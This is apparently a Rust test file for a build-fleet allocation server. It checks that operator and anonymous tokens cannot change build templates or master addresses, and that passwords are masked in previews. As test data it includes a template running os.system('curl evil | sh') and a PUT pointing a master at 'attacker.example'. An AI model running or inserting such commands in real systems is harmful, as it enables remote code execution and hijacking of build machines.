//! Who may change code: operator tokens do fleet work and nothing that
//! changes what slaves run or where they send their password; admin tokens
//! do everything; with tokens off nobody writes templates; whole-row PUTs
//! of unchanged values (the original UI's) pass; passwords are `***` in
//! previews without a token that may see them.
// Test helpers outside #[test] functions: a panic is the failure report.
#![allow(clippy::unwrap_used)]

mod common;

use common::{Harness, Kind, Resp};
use serde_json::{json, Value as Json};
use slavealloc_http_warp::auth::Scope;
use slavealloc_http_warp::{ServerConfig, Tokens};

const ADMIN: &str = "Bearer admin-secret-0123456789";
const OPERATOR: &str = "Bearer operator-secret-012345";
const VIEWER: &str = "Bearer viewer-secret-01234567";

fn scoped() -> ServerConfig {
    ServerConfig {
        tokens: Tokens::with_scopes([
            ("relops", "admin-secret-0123456789", Scope::Admin),
            ("buildduty", "operator-secret-012345", Scope::Operator),
            ("viewer", "viewer-secret-01234567", Scope::Secrets),
        ])
        .unwrap(),
        ..ServerConfig::default()
    }
}

async fn write(h: &Harness, method: &str, path: &str, body: &Json, token: Option<&str>) -> Resp {
    let mut headers = vec![("content-type", "application/json")];
    if let Some(t) = token {
        headers.push(("authorization", t));
    }
    h.request(method, path, Some(body.to_string().as_bytes()), &headers)
        .await
}

fn template() -> Json {
    json!({"name": "evil", "template": "import os\nos.system('curl evil | sh')\n"})
}

fn master() -> Json {
    json!({"nickname": "bm99", "fqdn": "bm99.example", "http_port": 0, "pb_port": 9999, "dcid": 1, "poolid": 1})
}

/// Every write that changes code or addresses, or creates or deletes.
fn code_writes() -> Vec<(&'static str, &'static str, Json)> {
    vec![
        ("POST", "/api/tac_templates", template()),
        ("PUT", "/api/tac_templates/1", json!({"template": "import os\n"})),
        ("DELETE", "/api/tac_templates/1", json!({})),
        ("PUT", "/api/slaves/3", json!({"custom_tplid": 1})),
        ("PUT", "/api/masters/1", json!({"fqdn": "attacker.example"})),
        ("PUT", "/api/masters/1", json!({"pb_port": 1})),
        ("POST", "/api/masters", master()),
        ("DELETE", "/api/pools/1", json!({})),
    ]
}

#[tokio::test]
async fn operators_cannot_change_code_or_addresses_and_nothing_is_written() {
    let h = Harness::new(Kind::Memory, scoped()).await.unwrap();
    let before = h.dump().await;
    for (method, path, body) in code_writes() {
        let r = write(&h, method, path, &body, Some(OPERATOR)).await;
        assert_eq!(r.status, 403, "{method} {path}: {}", r.body);
        assert!(r.error().contains("admin"), "{}", r.body);
    }
    assert_eq!(h.dump().await, before);

    // Fleet work passes, including a whole row sent back with one change.
    let mut row = h.row("slaves", 3).await;
    row["enabled"] = json!(false);
    row["notes"] = json!("reimaging");
    let r = write(&h, "PUT", "/api/slaves/3", &row, Some(OPERATOR)).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let after = h.row("slaves", 3).await;
    assert_eq!(
        (after["enabled"].clone(), after["notes"].clone()),
        (json!(false), json!("reimaging"))
    );
    let mut m = h.row("masters", 1).await;
    m["enabled"] = json!(false);
    assert_eq!(write(&h, "PUT", "/api/masters/1", &m, Some(OPERATOR)).await.status, 200);

    // A secrets token reads, and cannot write; no token is 401.
    let r = write(&h, "PUT", "/api/slaves/3", &json!({"notes": "x"}), Some(VIEWER)).await;
    assert_eq!(r.status, 403, "{}", r.body);
    assert_eq!(
        write(&h, "PUT", "/api/slaves/3", &json!({"notes": "x"}), None)
            .await
            .status,
        401
    );
    let wrong = write(
        &h,
        "PUT",
        "/api/slaves/3",
        &json!({"notes": "x"}),
        Some("Bearer not-a-token-at-all"),
    )
    .await;
    assert_eq!(wrong.status, 401);
    h.finish().await;
}

#[tokio::test]
async fn admins_may_change_everything() {
    let h = Harness::new(Kind::Memory, scoped()).await.unwrap();
    for (method, path, body) in code_writes() {
        let r = write(&h, method, path, &body, Some(ADMIN)).await;
        // The template and pool still in use cannot be deleted: that is a
        // 409 of the data, not a refusal of the token.
        assert!(
            matches!(r.status, 200 | 201 | 409),
            "{method} {path}: {} {}",
            r.status,
            r.body
        );
    }
    assert_eq!(h.row("masters", 1).await["pb_port"], json!(1));
    h.finish().await;
}

#[tokio::test]
async fn without_tokens_nobody_writes_templates_but_whole_rows_come_back() {
    let h = Harness::new(Kind::Memory, ServerConfig::default()).await.unwrap();
    let before = h.dump().await;
    for (method, path, body) in &code_writes()[..4] {
        let r = write(&h, method, path, body, None).await;
        assert_eq!(r.status, 403, "{method} {path}: {}", r.body);
        assert!(r.error().contains("admin token"), "{}", r.body);
    }
    assert_eq!(h.dump().await, before);

    // The original UI PUTs every key of the row it read, custom_tplid,
    // fqdn and pb_port included.
    for (table, id) in [("slaves", 3), ("masters", 1)] {
        let mut row = h.row(table, id).await;
        row["notes"] = json!("touched by the original UI");
        let r = write(&h, "PUT", &format!("/api/{table}/{id}"), &row, None).await;
        assert_eq!(r.status, 200, "{table}: {}", r.body);
        assert_eq!(h.row(table, id).await["notes"], json!("touched by the original UI"));
    }
    // Masters stay editable without tokens, as in the original.
    let r = write(&h, "PUT", "/api/masters/1", &json!({"pb_port": 9101}), None).await;
    assert_eq!(r.status, 200, "{}", r.body);
    h.finish().await;
}

#[tokio::test]
async fn previews_show_passwords_only_to_tokens_that_may_see_them() {
    let h = Harness::new(Kind::Memory, scoped()).await.unwrap();
    let peek = |auth: Option<&'static str>| {
        let headers: Vec<(&str, &str)> = auth.map(|a| ("authorization", a)).into_iter().collect();
        let h = &h;
        async move {
            h.request("GET", "/api/gettac/bld-linux64-spot-003", None, &headers)
                .await
        }
    };
    for auth in [None, Some(OPERATOR), Some("Bearer not-a-token-at-all")] {
        let r = peek(auth).await;
        assert_eq!(r.status, 200, "{}", r.body);
        let tac = r.json()["tac"].as_str().unwrap().to_owned();
        assert!(tac.contains("passwd=***"), "{auth:?}: {tac}");
        assert!(!tac.contains("bld-Linux-pw"), "{auth:?} saw the password");
    }
    for auth in [ADMIN, VIEWER] {
        let tac = peek(Some(auth)).await.json()["tac"].as_str().unwrap().to_owned();
        assert!(tac.contains("passwd=bld-Linux-pw"), "{auth}: {tac}");
    }
    // Machines boot without secrets.
    let r = h.get("/gettac/bld-linux64-spot-003").await;
    assert!(r.body.contains("passwd=bld-Linux-pw"), "{}", r.body);
    h.finish().await;
}
